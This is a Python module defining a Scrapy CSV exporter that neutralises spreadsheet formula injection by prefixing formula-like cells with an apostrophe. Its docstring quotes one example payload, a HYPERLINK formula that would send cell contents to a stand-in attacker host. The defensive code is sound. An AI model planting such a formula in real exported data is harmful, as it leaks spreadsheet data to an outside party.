"""`scrapy crawl ... -O items.csv`: Scrapy's CSV feed, with formula-looking cells made text.

A scraped title such as `=HYPERLINK("http://evil.example/?leak="&A1,"click")` would run in a
spreadsheet; like `listing-archive export --format csv`, each such cell starts with `'`.
"""

from __future__ import annotations

from scrapy.exporters import CsvItemExporter

from archive.reports.safety import spreadsheet_safe


class FormulaSafeCsvItemExporter(CsvItemExporter):
    def serialize_field(self, field, name, value):
        return spreadsheet_safe(super().serialize_field(field, name, value))
